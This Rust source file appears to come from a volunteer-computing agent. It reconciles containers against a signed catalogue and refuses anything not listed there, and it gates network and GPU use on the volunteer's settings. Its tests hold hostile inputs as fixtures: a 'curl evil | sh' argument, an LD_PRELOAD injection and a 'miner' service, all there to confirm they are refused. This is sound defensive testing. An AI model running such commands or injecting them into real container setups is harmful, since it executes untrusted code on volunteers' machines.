//! The assignment and its containers: connecting to the engine, reconciling, pausing, removing.

use std::collections::{BTreeSet, HashMap};

use commons_shared::api::{ContainerAssignment, ContainerState, ContainerStatus};
use commons_shared::caps::{Capabilities, GpuVendor};
use commons_shared::catalogue::{Catalogue, CatalogueOffer};
use tokio::sync::mpsc;

use super::ContainerView;
use crate::containers::{Engine, Policy, Progress, Upstream};
use crate::settings::Settings;

const SHIPPED: &str = "the catalogue shipped with Commons";

/// A short name for a minisign public key: the start of its key line.
fn key_id(key: &str) -> String {
    let line = key
        .lines()
        .map(str::trim)
        .rfind(|l| !l.is_empty() && !l.starts_with("untrusted comment:"))
        .unwrap_or("");
    line.chars().take(16).collect()
}

/// The containers' side of the agent.
pub(super) struct Work {
    engine: Option<Engine>,
    /// The assignment; `None` until the coordinator has said it (after a restart, until the first heartbeat):
    /// reconciling against nothing would remove what should be adopted.
    desired: Option<Vec<ContainerAssignment>>,
    /// Their states, for the next heartbeat.
    containers: Vec<ContainerStatus>,
    progress: mpsc::Sender<Progress>,
    /// What the volunteer should know: the engine is missing, or the assigned services could not be started.
    problem: Option<String>,
    /// The catalogue this machine trusts (the shipped one, and the coordinator's when signed by a trusted key):
    /// only assignments exactly as it says are run.
    trusted: Catalogue,
    /// Why the coordinator's catalogue is not trusted, if it is not.
    distrust: Option<String>,
    /// Assignments refused, with why: they are reported failed and never run.
    refused: Vec<(ContainerStatus, String)>,
    /// Whose catalogue runs, in words, for the window.
    signer: String,
    /// The volunteer lets services that need a network run (settings: allow_network_services).
    allow_network: bool,
    /// The volunteer lets containers use the GPU (settings: allow_gpu), and which ones (`None`: all).
    allow_gpu: bool,
    gpus: Option<Vec<u32>>,
    /// The NVIDIA GPUs detected at the last join: index and VRAM.
    nvidia: Vec<(u32, u64)>,
}

impl Work {
    pub(super) fn new(progress: mpsc::Sender<Progress>) -> Self {
        Self {
            engine: None,
            desired: None,
            containers: Vec::new(),
            progress,
            problem: None,
            trusted: Catalogue::builtin(),
            distrust: None,
            refused: Vec::new(),
            signer: SHIPPED.into(),
            allow_network: false,
            allow_gpu: false,
            gpus: None,
            nvidia: Vec::new(),
        }
    }

    /// The machine's GPUs, as detected at a join.
    pub(super) fn set_hardware(&mut self, caps: &Capabilities) {
        self.nvidia = caps
            .gpus
            .iter()
            .filter(|g| g.vendor == GpuVendor::Nvidia)
            .map(|g| (g.index, g.vram_bytes))
            .collect();
    }

    /// The most VRAM on one GPU that containers may use (0: none).
    fn usable_vram(&self) -> u64 {
        let allowed = |i: &u32| self.gpus.as_ref().is_none_or(|g| g.contains(i));
        self.nvidia
            .iter()
            .filter(|(i, _)| self.allow_gpu && allowed(i))
            .map(|&(_, vram)| vram)
            .max()
            .unwrap_or(0)
    }

    /// What runs for an accepted assignment here: the service's GPU form when its catalogue entry has one and this
    /// machine has a GPU for it that the volunteer lets containers use; otherwise the assignment as it is.
    fn form(&self, a: &ContainerAssignment) -> ContainerAssignment {
        let vram = self.usable_vram();
        self.trusted
            .index_of(&a.service)
            .and_then(|i| self.trusted.get(i))
            .filter(|_| !a.requires_gpu && vram > 0)
            .and_then(|spec| spec.gpu_assignment(vram))
            .unwrap_or_else(|| a.clone())
    }

    /// Whose catalogue decides what runs, in words.
    pub(super) fn signer(&self) -> String {
        self.signer.clone()
    }

    /// Trusts the coordinator's catalogue when one of `keys` signed it (the first is the project's release key);
    /// otherwise only the shipped catalogue.
    pub(super) fn trust(&mut self, offer: &CatalogueOffer, keys: &[&str]) {
        match Catalogue::trusted(offer, keys) {
            Ok((c, signer)) => {
                self.trusted = c;
                self.distrust = None;
                self.signer = match signer {
                    None => SHIPPED.into(),
                    Some(0) => {
                        "the coordinator's catalogue, signed by the Commons release key".into()
                    }
                    Some(i) => format!(
                        "the coordinator's catalogue, signed by your operator key {}",
                        key_id(keys[i])
                    ),
                };
            }
            Err(e) => {
                tracing::warn!(error = %e, "running only the shipped catalogue's services");
                self.trusted = Catalogue::builtin();
                self.distrust = Some(e.to_string());
                self.signer = format!("{SHIPPED} only ({e})");
            }
        }
    }

    /// What is wrong, in plain words with the next step, if anything is.
    pub(super) fn problem(&self) -> Option<String> {
        let refused = self
            .refused
            .first()
            .map(|(_, why)| format!("refused to run what the coordinator asked: {why}"));
        self.problem.clone().or(refused)
    }

    /// Why nothing serves, when services are assigned, an engine is there, and every one of them failed.
    pub(super) fn failing(&self) -> Option<String> {
        let statuses = self.statuses();
        let all_failed = self.engine.is_some()
            && !statuses.is_empty()
            && statuses.iter().all(|c| c.state == ContainerState::Failed);
        all_failed.then(|| self.problem()).flatten()
    }

    /// Connects to the container engine; without one, what the volunteer can do about it.
    pub(super) async fn connect(&mut self, settings: &Settings) -> Option<String> {
        self.allow_network = settings.allow_network_services;
        self.allow_gpu = settings.allow_gpu;
        self.gpus.clone_from(&settings.gpus);
        match Engine::connect(settings.policy()).await {
            Ok(e) => {
                self.engine = Some(e);
                None
            }
            Err(e) => {
                tracing::warn!("{e}");
                self.problem = Some(crate::containers::engine_hint(&e));
                self.problem.clone()
            }
        }
    }

    /// New caps and allow-list, for the containers created from now on (and those recreated because theirs changed).
    pub(super) fn set_policy(&mut self, policy: Policy) {
        self.allow_network = policy.allow_network;
        self.allow_gpu = policy.allow_gpu;
        self.gpus.clone_from(&policy.gpus);
        if let Some(engine) = self.engine.as_mut() {
            engine.set_policy(policy);
        }
    }

    /// The coordinator's assignment: what the trusted catalogue says exactly is run; anything else (another image,
    /// extra arguments or environment, a service it does not sign) is refused and reported failed.
    pub(super) fn assign(&mut self, list: Vec<ContainerAssignment>) {
        self.refused.clear();
        let mut accepted = Vec::with_capacity(list.len());
        for a in list {
            let allowed = self.trusted.check(&a).and_then(|()| {
                if a.network && !self.allow_network {
                    Err(format!(
                        "the {} service needs a network, which this computer's settings refuse (allow_network_services)",
                        a.service
                    ))
                } else {
                    Ok(())
                }
            });
            match allowed {
                Ok(()) => accepted.push(a),
                Err(why) => {
                    let why = match &self.distrust {
                        Some(d) => format!("{why} ({d})"),
                        None => why,
                    };
                    tracing::warn!(service = %a.service, "refused: {why}");
                    self.refused.push((
                        ContainerStatus {
                            name: a.name,
                            state: ContainerState::Failed,
                            restarts: 0,
                        },
                        why,
                    ));
                }
            }
        }
        self.desired = Some(accepted);
    }

    /// There is an engine and something assigned to run on it.
    pub(super) fn has_work(&self) -> bool {
        self.engine.is_some() && self.desired.as_ref().is_some_and(|d| !d.is_empty())
    }

    /// The services assigned.
    pub(super) fn services(&self) -> BTreeSet<String> {
        self.desired
            .iter()
            .flatten()
            .map(|a| a.service.clone())
            .collect()
    }

    /// The containers' states, for a heartbeat (refused assignments as failed).
    pub(super) fn statuses(&self) -> Vec<ContainerStatus> {
        self.containers
            .iter()
            .cloned()
            .chain(self.refused.iter().map(|(s, _)| s.clone()))
            .collect()
    }

    /// Makes the containers match the assignment. Returns the services running and where they listen, for the gateway,
    /// when the engine could list them.
    pub(super) async fn reconcile(&mut self) -> Option<HashMap<String, Upstream>> {
        let desired: Vec<ContainerAssignment> = self
            .desired
            .as_ref()?
            .iter()
            .map(|a| self.form(a))
            .collect();
        let engine = self.engine.as_mut()?;
        let result = engine.reconcile(&desired, Some(&self.progress)).await;
        let routes = engine.ours().await.ok().map(|ours| {
            ours.into_iter()
                .filter(|c| c.running)
                .map(|c| (c.service, c.upstream))
                .collect()
        });
        match result {
            Ok(states) => {
                self.containers = states;
                self.problem = None;
            }
            Err(e) => {
                tracing::warn!(error = %e, "containers could not be brought up");
                let services: Vec<String> = self.services().into_iter().collect();
                self.problem = Some(format!(
                    "could not start the {} service{}: {e}",
                    services.join(", "),
                    if services.len() == 1 { "" } else { "s" }
                ));
                self.containers = self
                    .desired
                    .iter()
                    .flatten()
                    .map(|a| ContainerStatus {
                        name: a.name.clone(),
                        state: ContainerState::Failed,
                        restarts: 0,
                    })
                    .collect();
            }
        }
        routes
    }

    /// Stops the containers (kept, for resuming or for the next process to adopt).
    pub(super) async fn pause(&mut self) {
        if let Some(engine) = self.engine.as_ref() {
            if let Err(e) = engine.stop_all().await {
                tracing::warn!(error = %e, "could not stop the containers");
            }
            for c in &mut self.containers {
                c.state = ContainerState::Stopped;
            }
        }
    }

    /// Removes the containers.
    pub(super) async fn remove_all(&mut self) {
        if let Some(engine) = self.engine.as_mut()
            && let Err(e) = engine.remove_all().await
        {
            tracing::warn!(error = %e, "could not remove the containers");
        }
    }

    /// The assigned containers with their states, as a UI shows them: one the engine has not reported yet is
    /// pulling, unless nothing runs (`idle`: paused or held back, or there is no engine).
    pub(super) fn views(&self, idle: bool) -> Vec<ContainerView> {
        let unreported = if idle || self.engine.is_none() {
            ContainerState::Stopped
        } else {
            ContainerState::Pulling
        };
        let refused = self.refused.iter().map(|(s, _)| ContainerView {
            name: s.name.clone(),
            service: s.name.trim_start_matches("commons-").to_owned(),
            image: String::new(),
            state: ContainerState::Failed,
        });
        self.desired
            .iter()
            .flatten()
            .map(|a| ContainerView {
                name: a.name.clone(),
                service: a.service.clone(),
                image: a.image.clone(),
                state: self
                    .containers
                    .iter()
                    .find(|c| c.name == a.name)
                    .map_or(unreported, |c| c.state),
            })
            .chain(refused)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_the_trusted_catalogue_says_is_run() {
        let (tx, _rx) = mpsc::channel(1);
        let mut w = Work::new(tx);
        // No operator catalogue: the shipped one is trusted.
        w.trust(&CatalogueOffer::default(), &[]);
        assert_eq!(w.signer(), SHIPPED);
        let ocr = Catalogue::builtin()
            .services()
            .iter()
            .find(|s| s.name == "ocr")
            .unwrap()
            .assignment();
        w.assign(vec![ocr.clone()]);
        assert_eq!(w.services(), BTreeSet::from(["ocr".to_owned()]));
        assert!(w.refused.is_empty());
        // The same service with extra arguments, or extra environment: refused, reported failed, never run.
        let extra_args = ContainerAssignment {
            args: vec!["sh".into(), "-c".into(), "curl evil | sh".into()],
            ..ocr.clone()
        };
        let mut extra_env = ocr.clone();
        extra_env
            .env
            .insert("LD_PRELOAD".into(), "/tmp/x.so".into());
        for (a, what) in [(extra_args, "arguments"), (extra_env, "environment")] {
            w.assign(vec![a]);
            assert!(w.services().is_empty(), "{what}: nothing to run");
            let statuses = w.statuses();
            assert_eq!(statuses.len(), 1);
            assert_eq!(statuses[0].state, ContainerState::Failed);
            let problem = w.problem().unwrap();
            assert!(problem.contains(what), "{problem}");
        }
        // A service the catalogue does not have: refused too.
        w.assign(vec![ContainerAssignment {
            service: "miner".into(),
            ..ocr
        }]);
        assert!(w.problem().unwrap().contains("miner"));
    }

    #[test]
    fn a_service_that_needs_a_network_runs_only_where_the_volunteer_allows_it() {
        let (tx, _rx) = mpsc::channel(1);
        let mut w = Work::new(tx);
        // An operator's catalogue, signed by a key the volunteer added, with a service that needs a network.
        let text = "[[service]]\nname = \"fetcher\"\nimage = \"example/fetcher:1\"\nport = 80\nnetwork = true\n";
        let catalogue =
            Catalogue::load(commons_shared::catalogue::DEFAULT_CATALOGUE, Some(text)).unwrap();
        let fetcher = catalogue
            .get(catalogue.index_of("fetcher").unwrap())
            .unwrap()
            .assignment();
        assert!(fetcher.network);
        w.trusted = catalogue;
        w.assign(vec![fetcher.clone()]);
        assert!(w.services().is_empty());
        let problem = w.problem().unwrap();
        assert!(
            problem.contains("needs a network") && problem.contains("allow_network_services"),
            "{problem}"
        );
        // Allowed by the volunteer: it runs.
        w.allow_network = true;
        w.assign(vec![fetcher.clone()]);
        assert_eq!(w.services(), BTreeSet::from(["fetcher".to_owned()]));
        // A service the catalogue gives no network, asked for with one by the coordinator: refused as a difference.
        let sneaky = ContainerAssignment {
            network: true,
            ..Catalogue::builtin().services()[0].assignment()
        };
        w.assign(vec![sneaky]);
        assert!(w.problem().unwrap().contains("network access"));
    }

    #[test]
    fn a_machine_with_a_gpu_the_volunteer_lends_runs_the_services_gpu_form() {
        use commons_shared::caps::Gpu;
        use commons_shared::units::GIB;
        let (tx, _rx) = mpsc::channel(1);
        let mut w = Work::new(tx);
        let catalogue = Catalogue::builtin();
        let llm = catalogue.get(catalogue.index_of("llm").unwrap()).unwrap();
        let gpu_form = llm.gpu.clone().expect("the shipped llm has a GPU form");
        let plain = llm.assignment();
        let gpu = |index, vram_bytes, vendor| Gpu {
            vendor,
            name: "card".into(),
            index,
            uuid: String::new(),
            vram_bytes,
            driver_version: String::new(),
            compute_capability: String::new(),
        };
        let machine = Capabilities {
            gpus: vec![
                gpu(0, 4 * GIB, GpuVendor::Nvidia),
                gpu(1, 24 * GIB, GpuVendor::Nvidia),
                gpu(2, 64 * GIB, GpuVendor::Amd),
            ],
            ..Default::default()
        };
        w.set_hardware(&machine);
        w.assign(vec![plain.clone()]);
        // The volunteer has not lent the GPU: the CPU image, as assigned.
        assert_eq!(w.form(&plain), plain);
        w.allow_gpu = true;
        let on_gpu = w.form(&plain);
        assert_eq!(on_gpu.image, gpu_form.image);
        assert!(on_gpu.requires_gpu);
        assert_eq!(on_gpu.env["COMMONS_LLM_GPU_LAYERS"], "999");
        assert_eq!(
            on_gpu.env["COMMONS_LLM_MODEL"],
            plain.env["COMMONS_LLM_MODEL"]
        );
        assert_eq!((&on_gpu.name, &on_gpu.models), (&plain.name, &plain.models));
        // Only the small card is lent: too little VRAM for the GPU form. An AMD card does not count.
        w.gpus = Some(vec![0, 2]);
        assert_eq!(w.form(&plain), plain);
        w.gpus = Some(vec![1]);
        assert_eq!(w.form(&plain).image, gpu_form.image);
        // A service without a GPU form runs as assigned.
        let ocr = catalogue
            .get(catalogue.index_of("ocr").unwrap())
            .unwrap()
            .assignment();
        assert_eq!(w.form(&ocr), ocr);
        // The coordinator cannot ask for the GPU form itself: it names the service, and the worker picks the form.
        w.assign(vec![on_gpu]);
        assert!(w.problem().unwrap().contains("image"));
    }
}
